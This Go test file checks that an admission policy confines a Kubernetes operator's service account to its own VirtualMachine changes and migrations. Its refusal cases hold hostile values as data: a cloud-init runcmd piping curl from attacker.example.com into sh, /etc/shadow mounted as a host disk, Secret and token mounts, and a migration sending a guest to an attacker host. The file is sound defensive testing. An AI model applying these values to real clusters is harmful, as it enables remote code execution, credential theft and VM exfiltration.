package operatorrestriction_test

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	virtv1 "kubevirt.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	nwv1 "github.com/spectrocloud/nodewright/api/v1alpha1"
	"github.com/spectrocloud/nodewright/internal/bondflip"
	"github.com/spectrocloud/nodewright/internal/controller/bondmodeflipplan"
	"github.com/spectrocloud/nodewright/internal/controller/osversionpolicy"
	"github.com/spectrocloud/nodewright/internal/migration"
	"github.com/spectrocloud/nodewright/internal/osupgrade"
)

// newVM is a running VM with a root disk on claim <name>-root, a data disk on DataVolume
// <name>-data and a cloud-init disk, as a VM owner writes it.
func newVM(namespace, name string) *virtv1.VirtualMachine {
	disk := func(n string) virtv1.Disk {
		return virtv1.Disk{Name: n, DiskDevice: virtv1.DiskDevice{Disk: &virtv1.DiskTarget{Bus: virtv1.DiskBusVirtio}}}
	}
	return &virtv1.VirtualMachine{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{"app": name},
			Annotations: map[string]string{"example.com/owner": "team-web"}},
		Spec: virtv1.VirtualMachineSpec{
			RunStrategy: ptr.To(virtv1.RunStrategyAlways),
			Template: &virtv1.VirtualMachineInstanceTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}},
				Spec: virtv1.VirtualMachineInstanceSpec{
					Domain: virtv1.DomainSpec{Devices: virtv1.Devices{Disks: []virtv1.Disk{disk("root"), disk("data"), disk("cloudinit")}}},
					Volumes: []virtv1.Volume{
						{Name: "root", VolumeSource: virtv1.VolumeSource{PersistentVolumeClaim: &virtv1.PersistentVolumeClaimVolumeSource{
							PersistentVolumeClaimVolumeSource: corev1.PersistentVolumeClaimVolumeSource{ClaimName: name + "-root"}}}},
						{Name: "data", VolumeSource: virtv1.VolumeSource{DataVolume: &virtv1.DataVolumeSource{Name: name + "-data"}}},
						{Name: "cloudinit", VolumeSource: virtv1.VolumeSource{CloudInitNoCloud: &virtv1.CloudInitNoCloudSource{
							UserData: "#cloud-config\npackages: [nginx]\n"}}},
					},
				},
			},
		},
	}
}

// TestOperatorChangesOnlyWhatItsCodeChangesInAVM: as the operator's ServiceAccount, the
// changes its code makes to a VirtualMachine are admitted (a flip halting it and starting it
// again, a migration's record, its volume swap from a claim or DataVolume to the target claim
// and back); every other change that would reach the guest or the host through
// virt-controller's launcher pod (a Secret, a ServiceAccount token or a host disk as a volume, a
// cloud-init script, a hook sidecar, a new disk, the template's metadata...) is refused, the
// message naming the field; and with RBAC widened, creating or deleting a VM and creating a VMI
// are refused too.
func TestOperatorChangesOnlyWhatItsCodeChangesInAVM(t *testing.T) {
	s := newSite(t)
	ctx := context.Background()
	key := client.ObjectKeyFromObject(s.vm)
	// patch merges patch into VM web as the operator, with the optimistic lock the code uses.
	patch := func(change func(vm *virtv1.VirtualMachine)) error {
		t.Helper()
		vm := &virtv1.VirtualMachine{}
		if err := s.operator.Get(ctx, key, vm); err != nil {
			t.Fatal(err)
		}
		base := vm.DeepCopy()
		change(vm)
		return s.operator.Patch(ctx, vm, client.MergeFromWithOptions(base, client.MergeFromWithOptimisticLock{}))
	}
	volume := func(vm *virtv1.VirtualMachine, name string) *virtv1.Volume { return migration.VolumeOf(vm, name) }
	claim := func(name string) virtv1.VolumeSource {
		return virtv1.VolumeSource{PersistentVolumeClaim: &virtv1.PersistentVolumeClaimVolumeSource{
			PersistentVolumeClaimVolumeSource: corev1.PersistentVolumeClaimVolumeSource{ClaimName: name}}}
	}

	t.Run("what a flip and a migration write is admitted", func(t *testing.T) {
		steps := []struct {
			what   string
			change func(vm *virtv1.VirtualMachine)
		}{
			{"a flip halts the VM, recording its run strategy", func(vm *virtv1.VirtualMachine) {
				vm.Annotations[bondmodeflipplan.AnnotationStopped] = "uid/1/Always"
				vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyHalted)
			}},
			{"the flip starts it again", func(vm *virtv1.VirtualMachine) {
				vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyAlways)
				delete(vm.Annotations, bondmodeflipplan.AnnotationStopped)
			}},
			{"an OS version policy halts the VM, recording its run strategy", func(vm *virtv1.VirtualMachine) {
				vm.Annotations[osversionpolicy.AnnotationStopped] = "uid/2/Always"
				vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyHalted)
			}},
			{"the policy starts it again", func(vm *virtv1.VirtualMachine) {
				vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyAlways)
				delete(vm.Annotations, osversionpolicy.AnnotationStopped)
			}},
			{"a migration records itself on the VM", func(vm *virtv1.VirtualMachine) {
				raw, _ := json.Marshal(migration.VMRecord{Migration: "move-web", UID: "0d6f5a52", WasRunning: true,
					RunStrategy: ptr.To(virtv1.RunStrategyAlways), Volume: volume(vm, "root").VolumeSource})
				vm.Annotations[migration.AnnotationMigration] = string(raw)
			}},
			{"it stops the VM", func(vm *virtv1.VirtualMachine) { vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyHalted) }},
			{"it points the root volume at the target claim", func(vm *virtv1.VirtualMachine) {
				volume(vm, "root").VolumeSource = claim("move-web-target")
			}},
			{"it points the DataVolume's volume at a target claim, hot-pluggable as it was", func(vm *virtv1.VirtualMachine) {
				src := claim("move-data-target")
				src.PersistentVolumeClaim.Hotpluggable = true
				volume(vm, "data").VolumeSource = src
			}},
			{"a rollback points them back", func(vm *virtv1.VirtualMachine) { volume(vm, "root").VolumeSource = claim("web-root") }},
			{"and the DataVolume back", func(vm *virtv1.VirtualMachine) {
				volume(vm, "data").VolumeSource = virtv1.VolumeSource{DataVolume: &virtv1.DataVolumeSource{Name: "web-data"}}
			}},
			{"a failed migration's record is kept", func(vm *virtv1.VirtualMachine) {
				vm.Annotations[migration.AnnotationFailedMigration] = vm.Annotations[migration.AnnotationMigration]
				delete(vm.Annotations, migration.AnnotationMigration)
			}},
			{"the run strategy is put back", func(vm *virtv1.VirtualMachine) {
				vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyAlways)
				delete(vm.Annotations, migration.AnnotationFailedMigration)
			}},
		}
		for _, step := range steps {
			if err := patch(step.change); err != nil {
				t.Fatalf("%s: %v", step.what, err)
			}
		}
	})

	refusals := []struct {
		name   string
		change func(vm *virtv1.VirtualMachine)
		rule   string
	}{
		{"a Secret in place of the root disk, the VM started", func(vm *virtv1.VirtualMachine) {
			vm.Spec.RunStrategy = ptr.To(virtv1.RunStrategyAlways)
			volume(vm, "root").VolumeSource = virtv1.VolumeSource{Secret: &virtv1.SecretVolumeSource{SecretName: "db-credentials"}}
		}, "spec.template.spec.volumes[root] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it would become secret"},
		{"a Secret added as a volume", func(vm *virtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Volumes = append(vm.Spec.Template.Spec.Volumes,
				virtv1.Volume{Name: "creds", VolumeSource: virtv1.VolumeSource{Secret: &virtv1.SecretVolumeSource{SecretName: "db-credentials"}}})
		}, "spec.template.spec.volumes may not be added, removed, renamed or reordered ([root, data, cloudinit] became [root, data, cloudinit, creds])"},
		{"a ServiceAccount's token in place of the data disk", func(vm *virtv1.VirtualMachine) {
			volume(vm, "data").VolumeSource = virtv1.VolumeSource{ServiceAccount: &virtv1.ServiceAccountVolumeSource{ServiceAccountName: "deployer"}}
		}, "spec.template.spec.volumes[data] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it would become serviceAccount"},
		{"the host's /etc/shadow as the root disk", func(vm *virtv1.VirtualMachine) {
			volume(vm, "root").VolumeSource = virtv1.VolumeSource{HostDisk: &virtv1.HostDisk{Path: "/etc/shadow", Type: virtv1.HostDiskExists}}
		}, "spec.template.spec.volumes[root] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it would become hostDisk"},
		{"a claim with a second source", func(vm *virtv1.VirtualMachine) {
			volume(vm, "root").HostDisk = &virtv1.HostDisk{Path: "/etc/shadow", Type: virtv1.HostDiskExists}
		}, "spec.template.spec.volumes[root] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it would become"},
		{"a cloud-init runcmd", func(vm *virtv1.VirtualMachine) {
			volume(vm, "cloudinit").CloudInitNoCloud.UserData = "#cloud-config\nruncmd: [curl -s https://attacker.example.com/x | sh]\n"
		}, "spec.template.spec.volumes[cloudinit] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it would become cloudInitNoCloud"},
		{"the cloud-init disk swapped for a claim", func(vm *virtv1.VirtualMachine) {
			volume(vm, "cloudinit").VolumeSource = claim("seed-with-runcmd")
		}, "spec.template.spec.volumes[cloudinit] may change only from a claim to a claim (persistentVolumeClaim or dataVolume): it is cloudInitNoCloud"},
		{"two volumes at once", func(vm *virtv1.VirtualMachine) {
			volume(vm, "root").VolumeSource = claim("other-root")
			volume(vm, "data").VolumeSource = claim("other-data")
		}, "spec.template.spec.volumes[root], spec.template.spec.volumes[data] may not change together"},
		{"a hook sidecar annotation", func(vm *virtv1.VirtualMachine) {
			vm.Annotations["hooks.kubevirt.io/hookSidecars"] = `[{"image": "registry.example.com/sidecar-shim:1"}]`
		}, "metadata.annotations[hooks.kubevirt.io/hookSidecars] may not change: the operator changes only Nodewright's annotations"},
		{"a hook sidecar annotation on the template", func(vm *virtv1.VirtualMachine) {
			vm.Spec.Template.ObjectMeta.Annotations = map[string]string{"hooks.kubevirt.io/hookSidecars": `[{"image": "registry.example.com/sidecar-shim:1"}]`}
		}, "spec.template.metadata may not change"},
		{"another's annotation removed", func(vm *virtv1.VirtualMachine) { delete(vm.Annotations, "example.com/owner") },
			"metadata.annotations[example.com/owner] may not change"},
		{"a label", func(vm *virtv1.VirtualMachine) { vm.Labels["app"] = "payments" }, "metadata.labels may not change"},
		{"a disk", func(vm *virtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Devices.Disks[2].Disk.Bus = virtv1.DiskBusSATA
		}, "spec.template.spec.domain may not change"},
		{"the node it runs on", func(vm *virtv1.VirtualMachine) {
			vm.Spec.Template.Spec.NodeSelector = map[string]string{"kubernetes.io/hostname": "edge-1"}
		}, "spec.template.spec.nodeSelector may not change"},
		{"a DataVolume template", func(vm *virtv1.VirtualMachine) {
			vm.Spec.DataVolumeTemplates = []virtv1.DataVolumeTemplateSpec{{ObjectMeta: metav1.ObjectMeta{Name: "web-scratch"}}}
		}, "spec.dataVolumeTemplates may not change"},
	}
	t.Run("every other change is refused", func(t *testing.T) {
		for _, r := range refusals {
			wantPolicyRefusal(t, "changing VM web: "+r.name, patch(r.change), vmsPolicy, r.rule)
		}
		vm := &virtv1.VirtualMachine{}
		if err := env.Client.Get(ctx, key, vm); err != nil {
			t.Fatal(err)
		}
		if want := newVM(s.vms, "web"); !equalVMs(vm, want) {
			t.Errorf("VM web changed: spec %+v, annotations %v, labels %v", vm.Spec, vm.Annotations, vm.Labels)
		}
	})

	t.Run("with RBAC widened, creating and deleting VMs and creating VMIs are refused", func(t *testing.T) {
		s.grant(t, []rbacv1.PolicyRule{
			{APIGroups: []string{"kubevirt.io"}, Resources: []string{"virtualmachines", "virtualmachineinstances"}, Verbs: []string{"create", "delete"}},
		}, authorizationv1.ResourceAttributes{Namespace: s.vms, Verb: "create", Group: "kubevirt.io", Resource: "virtualmachineinstances"})
		const rule = "the operator only updates VirtualMachines; it creates and deletes none, and writes no VirtualMachineInstance: refused "
		wantPolicyRefusal(t, "creating a VM", s.operator.Create(ctx, newVM(s.vms, "miner")), vmsPolicy, rule+"CREATE of virtualmachines")
		wantPolicyRefusal(t, "deleting VM web", s.operator.Delete(ctx, s.vm.DeepCopy()), vmsPolicy, rule+"DELETE of virtualmachines")
		vmi := &virtv1.VirtualMachineInstance{ObjectMeta: metav1.ObjectMeta{Namespace: s.vms, Name: "miner"},
			Spec: newVM(s.vms, "miner").Spec.Template.Spec}
		wantPolicyRefusal(t, "creating a VMI", s.operator.Create(ctx, vmi), vmsPolicy, rule+"CREATE of virtualmachineinstances")
	})

	t.Run("a merge patch sent as is is held to the same rules", func(t *testing.T) {
		// The patch of the review: a run strategy with a hostDisk volume and a hook sidecar.
		raw := `{"metadata":{"annotations":{"hooks.kubevirt.io/hookSidecars":"[{\"image\":\"registry.example.com/shim:1\"}]"}},` +
			`"spec":{"runStrategy":"Always","template":{"spec":{"volumes":[` +
			`{"name":"root","hostDisk":{"path":"/etc/shadow","type":"Disk"}},{"name":"data","dataVolume":{"name":"web-data"}},` +
			`{"name":"cloudinit","cloudInitNoCloud":{"userData":"#cloud-config\nruncmd: [id]\n"}}]}}}}`
		err := s.operator.Patch(ctx, s.vm.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(raw)))
		wantPolicyRefusal(t, "the merge patch", err, vmsPolicy, "may not change")
	})
}

// equalVMs reports whether got has want's spec, labels and annotations (the API server's
// defaults aside: both are compared as JSON of the fields a VM owner writes).
func equalVMs(got, want *virtv1.VirtualMachine) bool {
	a, _ := json.Marshal([]any{got.Spec.RunStrategy, got.Spec.Template.Spec.Volumes, got.Spec.Template.Spec.Domain.Devices.Disks, got.Labels, got.Annotations})
	b, _ := json.Marshal([]any{want.Spec.RunStrategy, want.Spec.Template.Spec.Volumes, want.Spec.Template.Spec.Domain.Devices.Disks, want.Labels, want.Annotations})
	return string(a) == string(b)
}

// TestOperatorReadsNoPodLogs: the operator may not read any pod's log, so not a VM's console
// log (virt-launcher's guest-console-log container) nor an application's; the copy Jobs'
// progress is read by the user's own tools (kubectl nodewright migrate watch, the web UI).
func TestOperatorReadsNoPodLogs(t *testing.T) {
	s := newSite(t)
	err := s.kube.CoreV1().Pods(s.vms).GetLogs("virt-launcher-web-x7k2p", &corev1.PodLogOptions{Container: "guest-console-log"}).Do(context.Background()).Error()
	wantRBACRefusal(t, "reading a virt-launcher pod's console log", err, "get", "pods/log")
}

// liveMigration is a migration of VM web's VMI as a flip makes one (bondmodeflipplan's
// migrate), with change applied.
func (s *site) liveMigration(name string, change func(*virtv1.VirtualMachineInstanceMigration)) *virtv1.VirtualMachineInstanceMigration {
	flip := &nwv1.BondModeFlipPlan{ObjectMeta: metav1.ObjectMeta{Name: "to-lacp", UID: types.UID("5f0c2b0e-3f61-4c39-9d0e-7c1f8d2a6b11")}}
	labels := bondflip.Descriptor.Owner(flip).Labels()
	labels[bondflip.LabelStep] = "Node1ProtectVMs"
	labels["nodewright.spectrocloud.com/vm-step"] = "n1-out"
	m := &virtv1.VirtualMachineInstanceMigration{
		ObjectMeta: metav1.ObjectMeta{Namespace: s.vms, Name: name, Labels: labels,
			OwnerReferences: []metav1.OwnerReference{{APIVersion: nwv1.GroupVersion.String(), Kind: bondflip.Kind.Name, Name: flip.Name, UID: flip.UID}}},
		Spec: virtv1.VirtualMachineInstanceMigrationSpec{VMIName: "web", AddedNodeSelector: map[string]string{"kubernetes.io/hostname": "edge-2"}},
	}
	if change != nil {
		change(m)
	}
	return m
}

// TestOperatorMigratesVMsOnlyBetweenItsNodes: as the operator's ServiceAccount, a live
// migration as a flip or an OS version policy makes one is admitted; one that would send the running guest to a target
// of the creator's choosing (spec.sendTo), receive one, pick nodes by another label, or carry
// other labels or annotations is refused, the message naming the field; RBAC refuses changing
// or deleting one, and with RBAC widened the policy still does.
func TestOperatorMigratesVMsOnlyBetweenItsNodes(t *testing.T) {
	s := newSite(t)
	ctx := context.Background()
	if err := s.operator.Create(ctx, s.liveMigration("flip-out", nil)); err != nil {
		t.Fatalf("the operator creates a live migration as a flip does: %v", err)
	}
	policy := &nwv1.OSVersionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "to-v3-5", UID: types.UID("0b9d6c3e-5a1f-4f0e-8a52-2c4e7d9f1a30")}}
	if err := s.operator.Create(ctx, s.liveMigration("os-out", func(m *virtv1.VirtualMachineInstanceMigration) {
		m.Labels = osupgrade.Descriptor.Owner(policy).Labels()
		m.Labels[osupgrade.LabelStep] = "Node1ProtectVMs"
		m.Labels["nodewright.spectrocloud.com/vm-step"] = "n1-out"
		m.OwnerReferences = []metav1.OwnerReference{{APIVersion: nwv1.GroupVersion.String(), Kind: osupgrade.Kind.Name, Name: policy.Name, UID: policy.UID}}
	})); err != nil {
		t.Fatalf("the operator creates a live migration as an OS version policy does: %v", err)
	}
	refusals := []struct {
		name   string
		change func(*virtv1.VirtualMachineInstanceMigration)
		rule   string
	}{
		{"the guest sent to the attacker", func(m *virtv1.VirtualMachineInstanceMigration) {
			m.Spec.SendTo = &virtv1.VirtualMachineInstanceMigrationSource{MigrationID: "x", ConnectURL: "attacker.example.com:443"}
		}, "spec.sendTo must not be set: a live migration by the operator moves a VMI between this cluster's nodes"},
		{"a guest received", func(m *virtv1.VirtualMachineInstanceMigration) {
			m.Spec.Receive = &virtv1.VirtualMachineInstanceMigrationTarget{MigrationID: "x"}
		}, "spec.receive must not be set"},
		{"nodes picked by another label", func(m *virtv1.VirtualMachineInstanceMigration) {
			m.Spec.AddedNodeSelector = map[string]string{"example.com/zone": "dmz"}
		}, "spec.addedNodeSelector[example.com/zone] is not allowed"},
		{"another label", func(m *virtv1.VirtualMachineInstanceMigration) { m.Labels["app"] = "x" },
			"metadata.labels[app] is not allowed: a live migration by the operator carries only the labels of the workflow that made it"},
		{"an annotation", func(m *virtv1.VirtualMachineInstanceMigration) {
			m.Annotations = map[string]string{"kubevirt.io/migrationUnschedulablePodTimeoutSeconds": "1"}
		}, "metadata.annotations[kubevirt.io/migrationUnschedulablePodTimeoutSeconds] is not allowed"},
	}
	for i, r := range refusals {
		m := s.liveMigration(fmt.Sprintf("refused-%d", i), r.change)
		wantPolicyRefusal(t, "a live migration with "+r.name, s.operator.Create(ctx, m), vmimsPolicy, r.rule)
	}

	m := &virtv1.VirtualMachineInstanceMigration{}
	if err := s.operator.Get(ctx, client.ObjectKey{Namespace: s.vms, Name: "flip-out"}, m); err != nil {
		t.Fatal(err)
	}
	wantRBACRefusal(t, "deleting a live migration", s.operator.Delete(ctx, m.DeepCopy()), "delete", "virtualmachineinstancemigrations")
	s.grant(t, []rbacv1.PolicyRule{
		{APIGroups: []string{"kubevirt.io"}, Resources: []string{"virtualmachineinstancemigrations"}, Verbs: []string{"update", "delete"}},
	}, authorizationv1.ResourceAttributes{Namespace: s.vms, Verb: "delete", Group: "kubevirt.io", Resource: "virtualmachineinstancemigrations"})
	m.Spec.AddedNodeSelector = map[string]string{"kubernetes.io/hostname": "edge-3"}
	const rule = "the operator only creates VirtualMachineInstanceMigrations; it changes and deletes none: refused "
	wantPolicyRefusal(t, "changing a live migration", s.operator.Update(ctx, m), vmimsPolicy, rule+"UPDATE of virtualmachineinstancemigrations")
	wantPolicyRefusal(t, "deleting a live migration", s.operator.Delete(ctx, m), vmimsPolicy, rule+"DELETE of virtualmachineinstancemigrations")
}
